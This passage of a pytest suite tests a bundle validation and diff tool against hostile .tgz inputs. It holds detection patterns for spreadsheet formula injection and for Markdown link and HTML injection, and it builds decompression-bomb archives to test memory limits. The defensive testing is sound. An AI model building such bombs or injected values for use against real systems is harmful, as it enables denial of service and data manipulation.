    return Run(code, out.read_bytes().decode("utf-8", "replace"), err.read_bytes().decode("utf-8", "replace"),
               rss_kb / 1024)


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def printable(text: str) -> bool:
    return all(ch.isprintable() for line in text.splitlines() for ch in line)


@dataclass
class Sandbox:
    root: Path
    cwd: Path
    env: dict[str, str]

    def run(self, *args: str | Path) -> Run:
        return migdiff(*args, cwd=self.cwd, env=self.env, logs=self.root.parent / f"{self.root.name}-logs")


@pytest.fixture
def sandbox(tmp_path: Path) -> Sandbox:
    root = tmp_path / "sandbox"
    dirs = {name: root / name for name in ("cwd", "bundles", "out", "tmp", "home", "config")}
    for d in dirs.values():
        d.mkdir(parents=True)
    env = dict(os.environ, TMPDIR=str(dirs["tmp"]), HOME=str(dirs["home"]), XDG_CONFIG_HOME=str(dirs["config"]),
               NO_COLOR="1", PYTHONDONTWRITEBYTECODE="1")
    return Sandbox(root, dirs["cwd"], env)


def one_line(run: Run, stream: str, path: Path) -> str:
    text = run.err if stream == "err" else run.out
    other = run.out if stream == "err" else run.err
    assert "Traceback" not in run.out + run.err, run.out + run.err
    lines = text.splitlines()
    assert len(lines) == 1, f"expected one line on std{stream}, got {len(lines)}: {text[:2000]!r}"
    assert other == "", f"std{'out' if stream == 'err' else 'err'} should be empty: {other[:2000]!r}"
    assert str(path) in lines[0], lines[0]
    assert printable(lines[0]), f"control characters printed: {lines[0][:300]!r}"
    assert len(lines[0]) < 3000, f"a one-line error should be short: {len(lines[0])} characters"
    return lines[0]


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
LONGEST = 20_000  # no value is shown whole past a few thousand characters


def csv_is_inert(text: str) -> None:
    """No cell a spreadsheet would run as a formula (a plain number is a number), no control characters."""
    assert printable(text), [ch for ch in text if not ch.isprintable() and ch != "\n"][:10]
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.match(cell), cell[:200]
            assert len(cell) < LONGEST, f"a cell of {len(cell)} characters"


def markdown_is_inert(text: str) -> None:
    """Every table row has as many cells as its header; no image, link or HTML from host data."""
    assert printable(text), [ch for ch in text if not ch.isprintable() and ch != "\n"][:10]
    cells = None
    for line in text.splitlines():
        assert len(line) < 4 * LONGEST, f"a line of {len(line)} characters"
        if not line.startswith("|"):
            cells = None
            continue
        count = len(re.findall(r"(?<!\\)\|", line))
        if cells is None:
            cells = count
        assert count == cells, line[:300]
        assert not re.search(r"(?<!\\)\]\(|(?<!\\)<[a-zA-Z/]|(?<!\\)&#", line), line[:300]


# --- the table --------------------------------------------------------------------------------------

@pytest.mark.parametrize("case, build, expected, words", CASES, ids=[c[0] for c in CASES])
def test_hostile_bundle(case: str, build, expected: int, words: str, real: Real, request, sandbox: Sandbox) -> None:
    if build is None:
        bundle = request.getfixturevalue("million")
    else:
        bundle = sandbox.root / "bundles" / (case.replace(" ", "-").replace("/", "-")[:60] + ".tgz")
        build(real, bundle)
    before = tree(sandbox.root) | tree(bundle.parent)

    result = sandbox.run("validate", bundle)
    assert result.code == expected, (result.code, result.out[:2000], result.err[:2000])
    line = one_line(result, "err" if expected == 2 else "out", bundle)
    assert words in line, line
    if expected == 1:
        assert line.startswith(f"{bundle}: INVALID: "), line
    if expected == 0:
        assert line.startswith(f"{bundle}: OK ("), line
    assert result.rss_mb < MAX_RSS_MB, f"validate peaked at {result.rss_mb:.0f} MB"

    report = sandbox.root / "out" / "report.txt"
    diffed = sandbox.run("diff", bundle, real.path, "-o", report)
    assert "Traceback" not in diffed.out + diffed.err
    assert diffed.rss_mb < MAX_RSS_MB, f"diff peaked at {diffed.rss_mb:.0f} MB"
    if expected == 0:
        assert diffed.code in (0, 1), (diffed.code, diffed.err[:2000])
        assert diffed.out == diffed.err == ""
        assert report.exists() and printable(report.read_text(encoding="utf-8"))
        shown = sandbox.run("show", bundle)
        assert shown.code == 0 and shown.err == "" and "Traceback" not in shown.out, shown.err[:2000]
        assert printable(shown.out), [ch for ch in shown.out if not ch.isprintable() and ch != "\n"][:10]
        assert shown.rss_mb < MAX_RSS_MB, f"show peaked at {shown.rss_mb:.0f} MB"
        for fmt, check in (("csv", csv_is_inert), ("markdown", markdown_is_inert)):
            written = sandbox.root / "out" / f"report.{fmt}"
            rendered = sandbox.run("diff", bundle, real.path, "--format", fmt, "-o", written)
            assert rendered.code in (0, 1) and rendered.err == "", (fmt, rendered.code, rendered.err[:2000])
            assert rendered.rss_mb < MAX_RSS_MB, f"diff --format {fmt} peaked at {rendered.rss_mb:.0f} MB"
            check(written.read_text(encoding="utf-8"))
            written.unlink()
        md = sandbox.run("show", bundle, "--format", "markdown")
        assert md.code == 0 and md.rss_mb < MAX_RSS_MB, (md.code, md.err[:2000], md.rss_mb)
        markdown_is_inert(md.out)
    else:
        # diff refuses what validate would not pass: exit 2, one line (INVALID for the readable ones)
        assert diffed.code == 2, (diffed.code, diffed.out[:2000], diffed.err[:2000])
        diff_line = one_line(diffed, "err", bundle)
        assert (words if expected == 2 else "INVALID") in diff_line, diff_line
        assert not report.exists()

    after = tree(sandbox.root) | tree(bundle.parent)
    new = after - before - ({str(report.relative_to(sandbox.root))} if expected == 0 else set())
    assert not new, f"written outside OUT: {sorted(new)}"
    assert not [p for p in after if p.endswith(".part")]


def test_the_table_is_big_enough() -> None:
    assert len(CASES) >= 25 and len({c[0] for c in CASES}) == len(CASES)


# --- what must keep working: real bundles in every tar dialect --------------------------------------

@pytest.mark.parametrize("fmt", [tarfile.GNU_FORMAT, tarfile.PAX_FORMAT, tarfile.USTAR_FORMAT],
                         ids=["gnu", "pax", "ustar"])
def test_every_tar_dialect_with_long_names_reads(fmt: int, real: Real, tmp_path: Path) -> None:
    """Python 2.6-3.7 write GNU tar (long names as ././@LongLink), 3.8+ pax; ustar splits names."""
    top = "migsnap-" + "a-very-long-hostname." * 4 + "example-20261126T051807Z"
    assert len(top) > 100
    out = write_tgz(tmp_path / "long.tgz", with_manifest_last(real.files, top), fmt)
    bundle = read_bundle(out)
    assert bundle.top == top and validate(bundle).ok, validate(bundle).line()


def test_non_ascii_names_read_in_pax(real: Real, tmp_path: Path) -> None:
    out = write_tgz(tmp_path / "u.tgz", with_manifest_last(real.files, "migsnap-héllo-wörld-20261126T051807Z"))
    assert read_bundle(out).top == "migsnap-héllo-wörld-20261126T051807Z"


def test_the_collectors_own_writer_reads(host_bundle: Path) -> None:
    bundle = read_bundle(host_bundle)
    assert validate(bundle).ok, validate(bundle).line()


# --- streaming: what is kept, what is only hashed --------------------------------------------------

def test_only_the_documents_are_kept_and_every_file_is_hashed(real: Real) -> None:
    bundle = read_bundle(real.path)
    assert set(bundle.files) == DOCUMENTS
    assert bundle.digests == {n: (len(d), hashlib.sha256(d).hexdigest()) for n, d in real.original.items()}
    assert all(bundle.files[n] == real.original[n] for n in DOCUMENTS)


def test_keep_raw_keeps_every_file(real: Real) -> None:
    bundle = read_bundle(real.path, keep_raw=True)
    assert bundle.files == real.original and bundle.keep_raw
    assert set(bundle.digests) == set(real.original)


def test_reading_holds_no_member_in_memory(real: Real, tmp_path: Path) -> None:
    """A 63 MiB member is hashed as it streams by: Python allocations stay at the chunk size."""
    path = tmp_path / "one.tgz"
    write_bomb(path, real.path, 1, 63 * MiB)
    tracemalloc.start()
    try:
        bundle = read_bundle(path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert bundle.digests["raw/zeros-0000.out"] == (63 * MiB, hashlib.sha256(bytes(63 * MiB)).hexdigest())
    assert "raw/zeros-0000.out" not in bundle.files
    assert peak < 8 * MiB, f"peak Python allocation {peak / MiB:.1f} MiB"


def test_the_bomb_is_refused_before_the_total_cap_is_passed(real: Real, tmp_path: Path) -> None:
    path = tmp_path / "bomb.tgz"
    write_bomb(path, real.path, 8, 63 * MiB)
    with pytest.raises(BundleError, match=r"more than 104857600 bytes \(limit: --max-total-size\)"):
        read_bundle(path, DEFAULT_LIMITS.__class__(max_total_size=100 * MiB))


def test_the_cli_defaults_are_the_readers() -> None:
    from migdiff import cli
    assert (cli.DEFAULT_MAX_MEMBERS, cli.DEFAULT_MAX_MEMBER_SIZE, cli.DEFAULT_MAX_TOTAL) == (
        DEFAULT_LIMITS.max_members, DEFAULT_LIMITS.max_member_size, DEFAULT_LIMITS.max_total_size)
